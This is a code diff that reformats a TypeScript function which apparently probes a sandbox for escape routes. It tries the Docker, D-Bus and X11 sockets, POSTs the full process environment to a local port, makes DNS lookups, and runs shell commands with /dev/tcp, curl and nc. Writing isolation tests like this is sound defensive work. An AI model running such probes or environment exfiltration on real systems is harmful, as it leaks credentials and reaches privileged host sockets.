@@ -75,26 +75,46 @@ function act(where: string): void {
       return undefined;
     });
   }
-  for (const path of [target.socket, `\0${target.socket}`, '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', '\0/tmp/.X11-unix/X0'])
+  for (const path of [
+    target.socket,
+    `\0${target.socket}`,
+    '/var/run/docker.sock',
+    '/run/dbus/system_bus_socket',
+    '/tmp/.X11-unix/X0',
+    '\0/tmp/.X11-unix/X0',
+  ])
     attempt(`unix ${path}`, () => {
       const socket = net.connect(path, () => socket.write(hello));
       socket.on('error', (error: Error) => loot.push(error.message));
       return undefined;
     });
   attempt('http', () => {
-    g.fetch(`http://127.0.0.1:${target.port}/${hello}`, { method: 'POST', body: JSON.stringify(g.process.env) }).catch((error: any) => loot.push(String(error.cause)));
-    builtin('http').get(`http://localhost:${target.port}/`).on('error', (error: Error) => loot.push(error.message));
+    g.fetch(`http://127.0.0.1:${target.port}/${hello}`, { method: 'POST', body: JSON.stringify(g.process.env) }).catch(
+      (error: any) => loot.push(String(error.cause)),
+    );
+    builtin('http')
+      .get(`http://localhost:${target.port}/`)
+      .on('error', (error: Error) => loot.push(error.message));
     return undefined;
   });
   attempt('dns', () => {
     const dns = builtin('dns');
-    dns.lookup('was-here.example.com', (error: Error | null, address: string) => tell('dns', error?.message ?? address));
+    dns.lookup('was-here.example.com', (error: Error | null, address: string) =>
+      tell('dns', error?.message ?? address),
+    );
     const resolver = new dns.Resolver();
     resolver.setServers([`127.0.0.1:${target.port}`]);
     resolver.resolve4('was-here.example.com', (error: Error | null) => loot.push(String(error?.message)));
     return undefined;
   });
-  attempt('programs', () => builtin('child_process').execSync(`echo hi > /dev/tcp/127.0.0.1/${target.port}; curl -m 1 http://127.0.0.1:${target.port}/; nc -w1 127.0.0.1 ${target.port}`, { timeout: 500, shell: '/bin/bash' }).toString());
+  attempt('programs', () =>
+    builtin('child_process')
+      .execSync(
+        `echo hi > /dev/tcp/127.0.0.1/${target.port}; curl -m 1 http://127.0.0.1:${target.port}/; nc -w1 127.0.0.1 ${target.port}`,
+        { timeout: 500, shell: '/bin/bash' },
+      )
+      .toString(),
+  );
   attempt('interfaces', () => builtin('os').networkInterfaces());
 }
 
